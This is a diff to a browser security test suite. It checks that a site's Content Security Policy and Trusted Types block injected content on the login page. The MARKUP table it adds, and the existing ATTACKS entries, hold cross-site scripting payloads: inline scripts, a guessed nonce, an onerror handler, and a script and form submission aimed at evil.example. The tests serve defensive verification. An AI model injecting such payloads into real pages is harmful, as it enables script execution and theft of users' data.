@@ -1,7 +1,7 @@
 """What gets into a page by some hole does nothing there: the policy stops it (A61)."""
 
 import pytest
-from playwright.sync_api import Browser, Request
+from playwright.sync_api import Browser, Request, Route
 
 from tests.browser.conftest import Site
 from tests.browser.test_account_flows import sign_in
@@ -21,12 +21,11 @@ ATTACKS = {
     "form": "const f = document.createElement('form'); f.action = 'https://evil.example/'; add(f); f.submit();",
 }
 
-
 STOPPED_BY = {
-    "inline script": "script-src-elem",
-    "foreign script": "script-src-elem",
-    "script as data": "script-src-elem",
-    "handler": "script-src-attr",
+    "inline script": "require-trusted-types-for",
+    "foreign script": "require-trusted-types-for",
+    "script as data": "require-trusted-types-for",
+    "handler": "require-trusted-types-for",
     "javascript link": "script-src-elem",
     "frame": "frame-src",
     "foreign picture": "img-src",
@@ -35,6 +34,35 @@ STOPPED_BY = {
     "beacon": "connect-src",
     "form": "form-action",
 }
+#: What a hole in a template would let in, with the directive that stops it: there Trusted Types see nothing.
+MARKUP = {
+    "inline script": ("<script>window.harmed = 1</script>", "script-src-elem"),
+    "guessed nonce": ("<script nonce='AAAAAAAAAAAAAAAAAAAAAA'>window.harmed = 1</script>", "script-src-elem"),
+    "foreign script": ("<script src='https://evil.example/x.js'></script>", "script-src-elem"),
+    "script as data": ("<script src='data:text/javascript,harmed=1'></script>", "script-src-elem"),
+    "handler": ("<img src='data:x' onerror='window.harmed = 1' alt>", "script-src-attr"),
+}
+
+
+@pytest.mark.parametrize("attack", list(MARKUP))
+def test_what_is_written_into_a_page_does_nothing(chromium: Browser, site: Site, attack: str) -> None:
+    markup, directive = MARKUP[attack]
+
+    def write(route: Route) -> None:
+        answer = route.fetch()
+        route.fulfill(response=answer, body=answer.text().replace("</main>", f"{markup}</main>"))
+
+    with chromium.new_context(base_url=site.url) as context:
+        page = context.new_page()
+        page.add_init_script(
+            "window.stopped = []; document.addEventListener('securitypolicyviolation',"
+            " (e) => window.stopped.push(e.effectiveDirective))"
+        )
+        page.route("**/auth/login", write)
+        page.goto("/auth/login")
+        page.wait_for_function("window.stopped.length > 0")
+        assert page.evaluate("window.stopped") == [directive]
+        assert page.evaluate("window.harmed") is None
 
 
 @pytest.mark.parametrize("attack", list(ATTACKS))
@@ -52,7 +80,7 @@ def test_what_is_injected_does_nothing(chromium: Browser, site: Site, attack: st
             const stopped = [];
             document.addEventListener('securitypolicyviolation', (e) => stopped.push(e.effectiveDirective));
             const add = (element) => document.body.append(element);
-            Function('add', attack)(add);
+            try { Function('add', attack)(add); } catch (refused) { if (refused.name !== 'TypeError') throw refused; }
             setTimeout(() => done(stopped), 400);
         })""",
         ATTACKS[attack],
